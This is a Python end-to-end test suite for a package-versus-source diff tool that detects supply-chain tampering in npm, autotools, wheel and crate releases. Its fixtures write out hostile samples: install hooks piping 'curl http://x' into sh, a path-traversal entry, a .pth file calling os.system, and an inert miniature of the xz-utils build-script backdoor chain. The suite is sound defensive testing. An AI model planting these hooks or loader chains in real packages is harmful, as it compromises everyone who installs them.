#!/usr/bin/env python3
"""End-to-end tests of `crible diff PACKAGE SOURCE`.

usage: test_diff.py CRIBLE

A small npm project is written here, as a checkout folder and as a tag
tarball (GitHub's layout: one NAME-VER/ folder).  Its package is made as
`npm pack` makes one (package/ prefix, 1985-10-26 times, owner 0), then
mutated one way at a time, as shared/research/rebuild.md §6.4 plans:
each mutation must give exactly its class, at its severity, with the
verdict and exit status that follow; each benign twin (the same package
re-tarred, a version bump, CRLF) must stay MATCH.  Also: JSON shape,
the attestation (deterministic, PASSED only for MATCH), --subdir,
--fail-on, errors, a release tarball with autotools output, a wheel
with a .pth file, and names that must not reach a terminal raw.
Ends with 'N passed, N failed'.
"""
import gzip, hashlib, io, json, os, shutil, subprocess, sys, tarfile, tempfile, zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import ar_write, check, finish, runner

crible = sys.argv[1]
run = runner(crible)
work = tempfile.mkdtemp(prefix="crible-diff-")
NPM_TIME = 499162500  # 1985-10-26 08:15:00 UTC, what npm writes on every member

PKG_JSON = {
    "name": "demo",
    "version": "1.0.0",
    "description": "a small module",
    "main": "index.js",
    "bin": {"demo": "bin/demo.js"},
    "dependencies": {"ms": "^2.1.0"},
    "scripts": {"test": "node test/t.js"},
    "license": "MIT",
}
FILES = {
    "package.json": json.dumps(PKG_JSON, indent=2).encode() + b"\n",
    "index.js": b"'use strict';\nmodule.exports = function demo(x) {\n  return x * 2;\n};\n",
    "lib/util.js": b"exports.twice = (x) => x * 2;\n",
    "bin/demo.js": b"#!/usr/bin/env node\nconsole.log(require('..')(21));\n",
    "README.md": b"# demo\n\nDoubles a number.\n",
    "LICENSE": b"MIT License\n",
}
SRC_ONLY = {"test/t.js": b"require('assert')(require('..')(2) === 4);\n", ".gitignore": b"node_modules\n",
            ".github/workflows/ci.yml": b"on: push\n"}
MODES = {"bin/demo.js": 0o755}


def write_tree(top, files):
    for p, b in files.items():
        full = os.path.join(top, p)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(b)
        os.chmod(full, MODES.get(p, 0o644))


src_dir = os.path.join(work, "demo")
write_tree(src_dir, dict(FILES, **SRC_ONLY))


def make_tar(path, members, prefix="package/", mtime=NPM_TIME, owner=0, order=None, level=9, compress="gz"):
    """members: name -> bytes, or (bytes, mode), or ("symlink"|"hardlink", target)."""
    names = order or list(members)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for n in names:
            v = members[n]
            ti = tarfile.TarInfo(prefix + n)
            ti.mtime, ti.uid, ti.gid = mtime, owner, owner
            if isinstance(v, tuple) and v[0] in ("symlink", "hardlink"):
                ti.type = tarfile.SYMTYPE if v[0] == "symlink" else tarfile.LNKTYPE
                ti.linkname = v[1]
                t.addfile(ti)
                continue
            data, mode = (v if isinstance(v, tuple) else (v, MODES.get(n, 0o644)))
            ti.size, ti.mode = len(data), mode
            t.addfile(ti, io.BytesIO(data))
    data = raw.getvalue()
    with open(path, "wb") as f:
        f.write(gzip.compress(data, compresslevel=level, mtime=0) if compress == "gz" else data)
    return path


src_tgz = make_tar(os.path.join(work, "demo-1.0.0-src.tar.gz"), dict(FILES, **SRC_ONLY), prefix="demo-1.0.0/",
                   mtime=1700000000, owner=1000)


def pkg(name, files):
    return make_tar(os.path.join(work, name), files)


def diff(package, source=src_dir, *opts):
    """(exit status, parsed JSON or None, stderr) of crible diff --json."""
    rc, out, err = run(["diff", "--json"] + list(opts) + [package, source])
    try:
        return rc, json.loads(out), err
    except ValueError:
        return rc, None, err + out


def classes(j, sev=None):
    """The classes of the findings, with their severities: {(class, severity), ...}."""
    return {(f["class"], f["severity"]) for f in j["findings"]} if j else set()


def only(j, allowed):
    return j is not None and {c for c, _ in classes(j)} <= set(allowed)


def mutate(**kw):
    f = dict(FILES)
    for k, v in kw.items():
        if v is None:
            f.pop(k, None)
        else:
            f[k] = v
    return f


def with_pkg_json(change):
    j = json.loads(FILES["package.json"])
    change(j)
    return json.dumps(j, indent=2).encode() + b"\n"


# --- negative controls: the package as npm packs it ------------------------------
good = pkg("good.tgz", FILES)
for source, what in ((src_dir, "folder"), (src_tgz, "tag tarball")):
    rc, j, err = diff(good, source)
    check("match: %s: exit 0" % what, rc == 0, (rc, err))
    check("match: %s: verdict" % what, j and j["verdict"] == "MATCH", j)
    check("match: %s: only SAME, META, SRC_ONLY" % what, only(j, {"META", "SRC_ONLY"}), classes(j))
    check("match: %s: SAME counts every file" % what, j and j["counts"].get("SAME") == len(FILES), j and j["counts"])
    check("match: %s: SRC_ONLY counts the source's extras" % what, j and j["counts"].get("SRC_ONLY") == len(SRC_ONLY),
          j and j["counts"])
    check("match: %s: eco npm, top stripped" % what,
          j and j["package"]["eco"] == "npm" and j["package"].get("top") == "package", j and j["package"])
rc, j, _ = diff(good, src_tgz)
check("match: the tag tarball's top folder is stripped", j and j["source"].get("top") == "demo-1.0.0", j and j["source"])
check("match: META names times and owners",
      j and any(f["class"] == "META" and "times differ" in f["detail"] and "owners differ" in f["detail"]
                for f in j["findings"]), j)

# Re-tarred: other times, owners, order and gzip level: META only.
retar = make_tar(os.path.join(work, "retar.tgz"), FILES, mtime=1234567890, owner=501,
                 order=sorted(FILES, reverse=True), level=1)
rc, j, _ = diff(retar, good)
check("retar: MATCH, exit 0", rc == 0 and j and j["verdict"] == "MATCH", j)
check("retar: META only", j and classes(j) == {("META", "info")}, classes(j))
check("retar: META says times, owners and order",
      j and all(w in j["findings"][0]["detail"] for w in ("times differ", "owners differ", "another order")), j)

# --- positive controls: one mutation each ------------------------------------------
CASES = [
    # name, files, {class: severity} that must be there, verdict, exit status
    ("postinstall", mutate(**{"package.json": with_pkg_json(lambda j: j["scripts"].update(postinstall="node setup.js")),
                              "setup.js": b"require('child_process').execSync('curl http://x | sh');\n"}),
     {"HOOK_ADDED": "critical", "PKG_ONLY": "high"}, "SUSPICIOUS", 1),
    ("setup.js alone", mutate(**{"setup.js": b"module.exports = 1;\n"}), {"PKG_ONLY": "high"}, "DIVERGENT", 1),
    ("binding.gyp", mutate(**{"binding.gyp": b"{ 'targets': [ { 'target_name': 'x', 'sources': ['x.cc'] } ] }\n"}),
     {"HOOK_ADDED": "critical"}, "SUSPICIOUS", 1),
    ("setuid", mutate(**{"lib/util.js": (FILES["lib/util.js"], 0o4755)}), {"MODE": "high"}, "DIVERGENT", 1),
    ("world-writable", mutate(**{"README.md": (FILES["README.md"], 0o666)}), {"MODE": "high"}, "DIVERGENT", 1),
    ("exec bit", mutate(**{"lib/util.js": (FILES["lib/util.js"], 0o755)}), {"MODE": "medium"}, "DIVERGENT", 0),
    ("symlink to /etc/passwd", mutate(**{"lib/util.js": ("symlink", "/etc/passwd")}), {"TYPE": "high"}, "DIVERGENT", 1),
    ("hard link for a file", mutate(**{"LICENSE": ("hardlink", "package/README.md")}), {"TYPE": "high"},
     "DIVERGENT", 1),
    ("line appended to main", mutate(**{"index.js": FILES["index.js"] + b"require('https').get('http://x/p');\n"}),
     {"CONTENT_CODE": "high"}, "DIVERGENT", 1),
    ("line appended to bin", mutate(**{"bin/demo.js": (FILES["bin/demo.js"] + b"process.exit(3);\n", 0o755)}),
     {"CONTENT_CODE": "high"}, "DIVERGENT", 1),
    ("dependency added", mutate(**{"package.json": with_pkg_json(lambda j: j["dependencies"].update({"evil": "1.0.0"}))}),
     {"MANIFEST_DEPS": "high"}, "DIVERGENT", 1),
    ("dependency range changed", mutate(**{"package.json": with_pkg_json(lambda j: j["dependencies"].update(ms="*"))}),
     {"MANIFEST_DEPS": "high"}, "DIVERGENT", 1),
    ("main moved", mutate(**{"package.json": with_pkg_json(lambda j: j.update(main="lib/util.js"))}),
     {"CONTENT_CODE": "high"}, "DIVERGENT", 1),
    ("prebuilt .node", mutate(**{"lib/x.node": open("/bin/true", "rb").read()}), {"PKG_ONLY_BINARY": "high"},
     "DIVERGENT", 1),
    ("README edited", mutate(**{"README.md": FILES["README.md"] + b"More words.\n"}), {"CONTENT": "medium"},
     "DIVERGENT", 0),
    ("postinstall under a repeated key", mutate(**{"package.json": FILES["package.json"].rstrip(b"}\n") +
                                                  b',\n  "scripts": {"postinstall": "node x.js"}\n}\n'}),
     # npm reads the last "scripts": the test script is gone too.
     {"HOOK_ADDED": "critical", "CONTENT": "medium"}, "SUSPICIOUS", 1),
    ("traversal entry", mutate(**{"../../.bashrc": b"curl x | sh\n"}), {"SCAN": "high", "PKG_ONLY": "high"},
     "DIVERGENT", 1),
]
for name, files, want, verdict, status in CASES:
    p = pkg(name.replace(" ", "_").replace("/", "_") + ".tgz", files)
    rc, j, err = diff(p)
    got = classes(j)
    for c, s in want.items():
        check("%s: %s %s" % (name, c, s), (c, s) in got, got)
    check("%s: verdict %s" % (name, verdict), j and j["verdict"] == verdict, j and j["verdict"])
    check("%s: exit %d" % (name, status), rc == status, (rc, err))
    # Nothing but the wanted classes and the normalised ones.
    extra = {c for c, _ in got} - set(want) - {"META", "SRC_ONLY", "SAME", "SCAN"}
    check("%s: no other class" % name, not extra, got)

# The evidence of a code change is the diff of its lines.
rc, j, _ = diff(os.path.join(work, "line_appended_to_main.tgz"))
ev = [f.get("evidence", "") for f in j["findings"] if f["class"] == "CONTENT_CODE"] if j else []
check("evidence: the added line as a unified diff", ev and "+require('https').get('http://x/p');" in ev[0] and
      ev[0].startswith("@@ -"), ev)
# The symlink also stays a scan finding: the engine judges every package entry.
rc, j, _ = diff(os.path.join(work, "symlink_to__etc_passwd.tgz"))
check("scan: a link out of the package is link.escape", j and any(f["class"] == "SCAN" and "link.escape" in f["detail"]
                                                                  for f in j["findings"]), classes(j))
check("scan: the package's own scan is in the JSON", j and j.get("scan", {}).get("verdict") == "block", j and j.get("scan"))

# Benign twins that must stay MATCH.
twins = [
    ("version bump", mutate(**{"package.json": with_pkg_json(lambda j: j.update(version="1.0.1"))}),
     {"MANIFEST_VERSION"}),
    ("CRLF README", mutate(**{"README.md": FILES["README.md"].replace(b"\n", b"\r\n")}), {"LINE_ENDINGS"}),
    ("exec bit lost", mutate(**{"bin/demo.js": (FILES["bin/demo.js"], 0o644)}), {"MODE"}),
]
for name, files, want in twins:
    rc, j, err = diff(pkg(name.replace(" ", "_") + ".tgz", files))
    check("twin %s: MATCH, exit 0" % name, rc == 0 and j and j["verdict"] == "MATCH", (rc, j and classes(j), err))
    check("twin %s: reported as %s" % (name, sorted(want)), j and want <= {c for c, _ in classes(j)}, classes(j))

# A build before packing writes dist/: expected when the source builds, not otherwise.
built = dict(FILES, **{"dist/demo.min.js": b"module.exports=function(n){return 2*n};\n"})
rc, j, _ = diff(pkg("dist.tgz", built))
check("dist/ without a build script: PKG_ONLY", ("PKG_ONLY", "high") in classes(j), classes(j))
src_build = os.path.join(work, "demo-build")
write_tree(src_build, dict(FILES, **{"package.json": with_pkg_json(lambda j: j["scripts"].update(prepack="rollup -c"))}))
rc, j, _ = diff(pkg("dist2.tgz", dict(built, **{"package.json": with_pkg_json(
    lambda j: j["scripts"].update(prepack="rollup -c"))})), src_build)
check("dist/ with a prepack script: PKG_ONLY_GENERATED", ("PKG_ONLY_GENERATED", "info") in classes(j) and
      j["verdict"] == "MATCH", classes(j))

# Hooks in both: present, low; changed: critical.
hooked = lambda cmd: with_pkg_json(lambda j: j["scripts"].update(preinstall=cmd))
src_hook = os.path.join(work, "demo-hook")
write_tree(src_hook, dict(FILES, **{"package.json": hooked("node check.js")}))
rc, j, _ = diff(pkg("hook-same.tgz", dict(FILES, **{"package.json": hooked("node check.js")})), src_hook)
check("hook in both: HOOK_PRESENT low, MATCH", ("HOOK_PRESENT", "low") in classes(j) and j["verdict"] == "MATCH",
      classes(j))
rc, j, _ = diff(pkg("hook-changed.tgz", dict(FILES, **{"package.json": hooked("node check.js; curl x|sh")})), src_hook)
check("hook changed: HOOK_CHANGED critical", ("HOOK_CHANGED", "critical") in classes(j) and rc == 1, classes(j))

# --- options -----------------------------------------------------------------------
rc, j, _ = diff(os.path.join(work, "README_edited.tgz"), src_dir, "--fail-on", "medium")
check("--fail-on medium: a CONTENT finding exits 1", rc == 1, rc)
rc, j, _ = diff(os.path.join(work, "postinstall.tgz"), src_dir, "--fail-on", "critical")
check("--fail-on critical: a hook exits 1", rc == 1, rc)
rc, j, _ = diff(os.path.join(work, "setup.js_alone.tgz"), src_dir, "--fail-on", "critical")
check("--fail-on critical: PKG_ONLY exits 0", rc == 0, rc)

mono = make_tar(os.path.join(work, "mono.tar.gz"),
                dict({"packages/demo/" + k: (v, MODES.get(k, 0o644)) for k, v in FILES.items()},
                     **{"package.json": b"{\"private\": true}\n"}),
                prefix="repo-1.0/")
rc, j, _ = diff(good, mono)
check("monorepo without --subdir: DIVERGENT", j and j["verdict"] != "MATCH", j and classes(j))
rc, j, _ = diff(good, mono, "--subdir", "packages/demo")
check("monorepo with --subdir: MATCH", rc == 0 and j and j["verdict"] == "MATCH", j and classes(j))
rc, j, _ = diff(good, mono, "--subdir", "packages/nothere")
check("--subdir that holds nothing: INCOMPLETE", ("INCOMPLETE", "high") in classes(j) and rc == 1, classes(j))

# The attestation: deterministic with --time, PASSED only for MATCH.
def attest(p, t="@0"):
    out = os.path.join(work, "att.json")
    rc, _, err = run(["diff", "--attest", out, "--time", t, p, src_dir])
    return rc, open(out, "rb").read() if os.path.exists(out) else b"", err


rc, a1, err = attest(good)
rc2, a2, _ = attest(good)
check("attest: written, exit 0", rc == 0 and a1, (rc, err))
check("attest: deterministic", a1 == a2)
st = json.loads(a1) if a1 else {}
check("attest: in-toto Statement v1", st.get("_type") == "https://in-toto.io/Statement/v1", st)
check("attest: VSA predicate", st.get("predicateType") == "https://slsa.dev/verification_summary/v1", st)
check("attest: subject digest is the package's SHA-256",
      st.get("subject", [{}])[0].get("digest", {}).get("sha256") == hashlib.sha256(open(good, "rb").read()).hexdigest(), st)
pr = st.get("predicate", {})
check("attest: PASSED, CRIBLE_SOURCE_MATCH", pr.get("verificationResult") == "PASSED" and
      pr.get("verifiedLevels") == ["CRIBLE_SOURCE_MATCH"], pr)
check("attest: a package URL", pr.get("resourceUri") == "pkg:npm/demo@1.0.0", pr.get("resourceUri"))
check("attest: time from --time", pr.get("timeVerified") == "1970-01-01T00:00:00Z", pr.get("timeVerified"))
check("attest: verifier", pr.get("verifier") == {"id": "urn:crible:diff:1"}, pr.get("verifier"))
check("attest: keys sorted", a1 and a1.decode() == json.dumps(st, sort_keys=True, separators=(",", ":")) + "\n",
      a1[:200])
rc, a3, _ = attest(os.path.join(work, "postinstall.tgz"), "2026-01-02T03:04:05Z")
st3 = json.loads(a3) if a3 else {}
check("attest: FAILED for a hook", st3.get("predicate", {}).get("verificationResult") == "FAILED" and
      st3["predicate"].get("verifiedLevels") == ["FAILED"] and rc == 1, st3.get("predicate"))

# Errors: exit 2, a message, never a verdict.
for args, what in ((["diff", good], "one argument"), (["diff", "--eco", "maven", good, src_dir], "unknown eco"),
                   (["diff", os.path.join(work, "nope.tgz"), src_dir], "missing package"),
                   (["diff", good, os.path.join(work, "nope")], "missing source"),
                   (["diff", "--time", "yesterday", good, src_dir], "bad time")):
    rc, out, err = run(args)
    check("error: %s: exit 2" % what, rc == 2 and not out.startswith("crible diff:"), (rc, out[:100], err))

# --- text for a person: names escaped ------------------------------------------------
evil = pkg("escape.tgz", dict(FILES, **{"lib/\x1b[31mred\u202e.js": b"x\n"}))
rc, out, _ = run(["diff", evil, src_dir])
check("text: verdict line", out.startswith("crible diff: DIVERGENT"), out[:200])
check("text: no raw escape or bidi control", "\x1b" not in out and "\u202e" not in out, repr(out[:400]))
check("text: the escapes are visible", "\\x1b[31mred\\u{202e}.js" in out, out)

# --- a release tarball: autotools output is expected, an extra m4 is not ---------------
auto_src = {"configure.ac": b"AC_INIT([demo],[1.0])\nAM_INIT_AUTOMAKE\nAC_OUTPUT\n", "Makefile.am": b"bin_PROGRAMS = demo\n",
            "demo.c": b"int main(void) { return 0; }\n", "m4/demo.m4": b"# demo.m4 serial 1\n"}
auto_dir = os.path.join(work, "auto")
write_tree(auto_dir, auto_src)
release = dict(auto_src, **{"configure": (b"#! /bin/sh\n# Generated by GNU Autoconf 2.71.\n", 0o755),
                            "Makefile.in": b"# Makefile.in generated by automake\n", "aclocal.m4": b"# aclocal\n",
                            "build-aux/install-sh": (b"#!/bin/sh\n", 0o755), "m4/libtool.m4": b"# libtool.m4\n"})
rel = make_tar(os.path.join(work, "demo-1.0.tar.gz"), release, prefix="demo-1.0/")
rc, j, _ = diff(rel, auto_dir)
check("autotools: eco detected", j and j["package"]["eco"] == "autotools", j and j["package"])
check("autotools: generated files are PKG_ONLY_GENERATED",
      j and {f["path"] for f in j["findings"] if f["class"] == "PKG_ONLY_GENERATED"} ==
      {"configure", "Makefile.in", "aclocal.m4", "build-aux/install-sh", "m4/libtool.m4"}, j and j["findings"])
check("autotools: MATCH", rc == 0 and j["verdict"] == "MATCH", classes(j))
rel2 = make_tar(os.path.join(work, "demo-1.0-extra.tar.gz"),
                dict(release, **{"m4/build-to-host.m4": b"# build-to-host.m4 serial 30\n"}), prefix="demo-1.0/")
rc, j, _ = diff(rel2, auto_dir)
check("autotools: a package-only m4 is BUILD_FILE_DIFF", ("BUILD_FILE_DIFF", "high") in classes(j) and rc == 1,
      classes(j))
rel3 = make_tar(os.path.join(work, "demo-1.0-am.tar.gz"),
                dict(release, **{"Makefile.am": b"bin_PROGRAMS = demo\ndemo_LDADD = tests/files/x.o\n"}), prefix="demo-1.0/")
rc, j, _ = diff(rel3, auto_dir)
check("autotools: a changed Makefile.am is BUILD_FILE_DIFF", ("BUILD_FILE_DIFF", "high") in classes(j), classes(j))

# --- a wheel: a .pth that imports runs at every start -----------------------------------
py_src = os.path.join(work, "pysrc")
write_tree(py_src, {"demo/__init__.py": b"X = 1\n", "pyproject.toml": b"[project]\nname='demo'\n"})
whl = os.path.join(work, "demo-1.0-py3-none-any.whl")
with zipfile.ZipFile(whl, "w") as z:
    z.writestr("demo/__init__.py", b"X = 1\n")
    z.writestr("demo-1.0.dist-info/METADATA", b"Name: demo\n")
    z.writestr("demo-1.0.dist-info/RECORD", b"")
    z.writestr("demo-init.pth", b"import os; os.system('id')\n")
rc, j, _ = diff(whl, py_src)
check("wheel: eco pypi", j and j["package"]["eco"] == "pypi", j and j["package"])
check("wheel: a .pth with import is HOOK_ADDED", j and any(f["class"] == "HOOK_ADDED" and f["path"] == "demo-init.pth"
                                                            for f in j["findings"]), classes(j))
check("wheel: dist-info is generated (its empty RECORD lists nothing: SELF_INTEGRITY)",
      j and all(f["class"] in ("PKG_ONLY_GENERATED", "SELF_INTEGRITY") for f in j["findings"]
                if f["path"].startswith("demo-1.0.dist-info/")) and ("SELF_INTEGRITY", "high") in classes(j),
      j and j["findings"])

# --- an inert, self-made miniature of the xz-utils backdoor ---------------------------
# The fixture: marked shell text, xz-compressed, then bytes swapped with the tr map the m4
# holds.  Its payload only echoes to /dev/null, and nothing here ever runs it.
import lzma
SWAP = bytes.maketrans(b"\t -_", b" \t_-")
import random
rng = random.Random(5)
# Filler first, the script last: a decoder that gives up early (the bytes the map swapped) never
# reaches the script; only the map undoes it.
filler = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789 -_") for _ in range(6000)).encode()
payload = filler + b"\n#!/bin/sh\necho inert-test-payload >/dev/null\nexit 0\n"
fixture = lzma.compress(payload, format=lzma.FORMAT_XZ).translate(SWAP)
dec, seen = lzma.LZMADecompressor(), b""
try:
    for k in range(len(fixture)):
        seen += dec.decompress(fixture[k:k + 1])
except lzma.LZMAError:
    pass
check("xz fixture: without the map a decoder gives up before the script", b"#!/bin/sh" not in seen and
      lzma.decompress(fixture.translate(SWAP)) == payload, seen[-40:])
xz_src = {"configure.ac": b"AC_INIT([mini],[5.6.1])\nAM_INIT_AUTOMAKE\ngl_BUILD_TO_HOST_INIT\nAC_OUTPUT\n",
          "Makefile.am": b"SUBDIRS = src tests\n", "src/mini.c": b"int mini(void) { return 0; }\n",
          "m4/mini.m4": b"# mini.m4 serial 1\n", "tests/Makefile.am": b"EXTRA_DIST = files/bad-x.xz\n",
          "tests/files/bad-x.xz": fixture}
BUILD_TO_HOST = rb"""# build-to-host.m4 serial 30
dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi
  gl_path_map='tr "\t \-_" " \t_\-"'
])
AC_DEFUN([gl_BUILD_TO_HOST],
[
  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])
])
"""
xz_dir = os.path.join(work, "mini")
write_tree(xz_dir, xz_src)
xz_release = dict(xz_src, **{"configure": (b"#! /bin/sh\n# Generated by GNU Autoconf 2.72.\n", 0o755),
                             "Makefile.in": b"# Makefile.in generated by automake 1.16.5\n",
                             "aclocal.m4": b"# generated automatically by aclocal\n"})
rc, j, _ = diff(make_tar(os.path.join(work, "mini-5.6.1-twin.tar.gz"), xz_release, prefix="mini-5.6.1/"), xz_dir)
check("xz twin (no build-to-host.m4): no critical, MATCH", j and j["verdict"] == "MATCH" and rc == 0, classes(j))
check("xz twin: the fixture is counted, nothing decoded from it without a map",
      j and ("FIXTURE_BINARY", "info") in classes(j) and ("FIXTURE_BINARY", "medium") not in classes(j), classes(j))
evil_rel = make_tar(os.path.join(work, "mini-5.6.1.tar.gz"), dict(xz_release, **{"m4/build-to-host.m4": BUILD_TO_HOST}),
                    prefix="mini-5.6.1/")
rc, j, _ = diff(evil_rel, xz_dir)
got = classes(j)
for c, sev in (("BUILD_RED_FLAG", "critical"), ("BUILD_READS_FIXTURE", "critical"), ("BUILD_FILE_DIFF", "high"),
               ("FIXTURE_BINARY", "medium"), ("PKG_ONLY_GENERATED", "info")):
    check("xz fixture: %s %s" % (c, sev), (c, sev) in got, got)
check("xz fixture: SUSPICIOUS, exit 1", j and j["verdict"] == "SUSPICIOUS" and rc == 1, j and j["verdict"])
by = {(f["class"], f["severity"]): f for f in j["findings"]} if j else {}
rf = by.get(("BUILD_RED_FLAG", "critical"), {})
check("xz fixture: the red flag is the m4 file", rf.get("path") == "m4/build-to-host.m4", rf)
check("xz fixture: the chain's parts are named", all(w in rf.get("detail", "") for w in
      ("a pipe into a shell", "tr swapping characters", "sed \"r\\n\" used as cat", "a decoder named by a variable")), rf)
check("xz fixture: the evidence quotes the lines", "| $SHELL" in rf.get("evidence", "") and "line " in rf.get("evidence", ""), rf)
fx = by.get(("FIXTURE_BINARY", "medium"), {})
check("xz fixture: the fixture decodes, through the m4's tr map, to shell text",
      fx.get("path") == "tests/files/bad-x.xz" and "shell text" in fx.get("detail", ""), fx)
# A fixture that carries its marker in plain sight (as xz's bad-3 did, for grep to find): medium
# with or without a build file that reads it.
marked = dict(xz_release, **{"tests/files/good-x.xz": lzma.compress(b"####Hello####\n", format=lzma.FORMAT_XZ,
                                                                   filters=[{"id": lzma.FILTER_LZMA2, "preset": 0}])})
rc, j, _ = diff(make_tar(os.path.join(work, "mini-marked.tar.gz"), marked, prefix="mini-5.6.1/"), xz_dir)
check("a fixture that decodes to a ####xxxxx#### marker: FIXTURE_BINARY medium",
      j and any(f["class"] == "FIXTURE_BINARY" and f["severity"] == "medium" and f["path"] == "tests/files/good-x.xz"
                and "marker" in f["detail"] for f in j["findings"]), j and classes(j))
# Each half alone: a tr swap alone is high; a shell pipe alone is nothing.
half = BUILD_TO_HOST.replace(b"eval $gl_config_gt | $SHELL 2>/dev/null", b"true")
rc, j, _ = diff(make_tar(os.path.join(work, "mini-half.tar.gz"), dict(xz_release, **{"m4/build-to-host.m4": half}),
                         prefix="mini-5.6.1/"), xz_dir)
check("xz fixture without the shell pipe: BUILD_RED_FLAG high, not critical",
      ("BUILD_RED_FLAG", "high") in classes(j) and ("BUILD_RED_FLAG", "critical") not in classes(j), classes(j))
benign_m4 = b"# ok.m4 serial 1\nAC_DEFUN([OK], [case $host in sh3 | sh) x=1 ;; esac\n  v=`echo $x | tr '\\n' ' '`])\n"
rc, j, _ = diff(make_tar(os.path.join(work, "mini-ok.tar.gz"), dict(xz_release, **{"m4/ok.m4": benign_m4}),
                         prefix="mini-5.6.1/"), xz_dir)
check("a case pattern '| sh)' and tr '\\n' ' ': no red flag", not any(c.startswith("BUILD_RED") for c, _ in classes(j)),
      classes(j))

# A build file past what the red flags read: its flags are unknown, not absent.
# (Lines of random hex: padding that compresses well would be bomb.ratio first.)
big = dict(xz_release, **{"m4/huge.m4": b"".join(b"dnl %s\n" % rng.randbytes(64).hex().encode()
                                                 for _ in range(17 * 1024 * 1024 // 133))})
rc, j, _ = diff(make_tar(os.path.join(work, "mini-big.tar.gz"), big, prefix="mini-5.6.1/"), xz_dir)
check("a build file too large to read: INCOMPLETE high", j and any(f["class"] == "INCOMPLETE" and f["path"] == "m4/huge.m4"
                                                                    for f in j["findings"]) and rc == 1, j and classes(j))

# --- a crate: Cargo.toml.orig against the source's, path_in_vcs, the commit -----------------
SHA = "0123456789abcdef0123456789abcdef01234567"
repo = os.path.join(work, "repo")
crate_src = {"Cargo.toml": b"[package]\nname = \"mini\"\nversion = \"0.1.0\"\n", "src/lib.rs": b"pub fn f() -> u8 { 1 }\n"}
write_tree(repo, dict({"crates/mini/" + k: v for k, v in crate_src.items()}, **{"README.md": b"workspace\n"}))
os.makedirs(os.path.join(repo, ".git", "refs", "heads"))
open(os.path.join(repo, ".git", "HEAD"), "w").write("ref: refs/heads/main\n")
open(os.path.join(repo, ".git", "refs", "heads", "main"), "w").write(SHA + "\n")


def crate(name, sha=SHA, dirty=False, orig=None, extra=None):
    vcs = {"git": dict({"sha1": sha}, **({"dirty": True} if dirty else {})), "path_in_vcs": "crates/mini"}
    files = {"Cargo.toml": b"# THIS FILE IS AUTOMATICALLY GENERATED BY CARGO\n[package]\nname = \"mini\"\n",
             "Cargo.toml.orig": orig or crate_src["Cargo.toml"], "src/lib.rs": crate_src["src/lib.rs"],
             ".cargo_vcs_info.json": json.dumps(vcs).encode(), "Cargo.lock": b"version = 3\n"}
    files.update(extra or {})
    return make_tar(os.path.join(work, name), files, prefix="mini-0.1.0/")


rc, j, err = diff(crate("mini.crate"), repo)
check("crate: eco crate, re-rooted at path_in_vcs, MATCH", rc == 0 and j and j["package"]["eco"] == "crate" and
      j["verdict"] == "MATCH", (rc, j and classes(j), err))
check("crate: the commit matches the checkout's HEAD", j and any(f["class"] == "VCS_REF" and f["severity"] == "ok"
                                                               for f in j["findings"]), j and classes(j))
check("crate: Cargo.toml is cargo's, generated", ("PKG_ONLY_GENERATED", "info") in classes(j), classes(j))
for name, kw, want in (("other commit", {"sha": "f" * 40}, ("VCS_REF", "medium")),
                       ("dirty", {"dirty": True}, ("VCS_REF", "medium")),
                       ("Cargo.toml.orig changed", {"orig": crate_src["Cargo.toml"] + b"build = \"gen.rs\"\n"},
                        ("BUILD_FILE_DIFF", "high")),
                       ("build.rs added", {"extra": {"build.rs": b"fn main() {}\n"}}, ("HOOK_ADDED", "critical"))):
    rc, j, _ = diff(crate("mini-%s.crate" % name.replace(" ", "-"), **kw), repo)
    check("crate %s: %s %s" % (name, want[0], want[1]), want in classes(j), classes(j))
rc, j, _ = diff(crate("mini-sub.crate"), repo, "--subdir", "crates")
check("crate: --subdir given wins over path_in_vcs", j and j["verdict"] != "MATCH", j and classes(j))
tarred = make_tar(os.path.join(work, "repo.tar.gz"), {"crates/mini/" + k: v for k, v in crate_src.items()}, prefix="repo-1/")
rc, j, _ = diff(crate("mini.crate"), tarred)
check("crate against a tag tarball: the commit is unknown, info", ("VCS_REF", "info") in classes(j), classes(j))
rc, j, _ = diff(crate("mini.crate"), tarred, "--commit", SHA[:10])
check("crate with --commit (short): matches", j and any(f["class"] == "VCS_REF" and f["severity"] == "ok"
                                                       for f in j["findings"]), classes(j))
rc, out, _ = run(["diff", "--commit", "XYZ", os.path.join(work, "mini.crate"), tarred])
check("--commit that is not hex: exit 2", rc == 2, rc)
# npm's gitHead against the source's commit.
rc, j, _ = diff(pkg("githead.tgz", mutate(**{"package.json": with_pkg_json(lambda j: j.update(gitHead="e" * 40))})),
                src_dir, "--commit", SHA)
check("npm gitHead that is not the source's commit: VCS_REF medium", ("VCS_REF", "medium") in classes(j), classes(j))

# --- self-integrity offline: a wheel's RECORD, a .deb's md5sums ------------------------------
import base64


def record_line(name, data):
    dg = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return "%s,sha256=%s,%d\n" % (name, dg, len(data))


def wheel(path, files, record=None, extra=None):
    with zipfile.ZipFile(path, "w") as z:
        rec = "".join(record_line(n, d) for n, d in files.items()) + "mini-1.0.dist-info/RECORD,,\n"
        for n, d in dict(files, **(extra or {})).items():
            z.writestr(n, d)
        z.writestr("mini-1.0.dist-info/RECORD", record if record is not None else rec)
    return path


wfiles = {"mini/__init__.py": b"X = 1\n", "mini-1.0.dist-info/METADATA": b"Name: mini\n",
          "mini-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\n"}
wsrc = os.path.join(work, "wsrc")
write_tree(wsrc, {"mini/__init__.py": b"X = 1\n", "pyproject.toml": b"[project]\nname = 'mini'\n"})
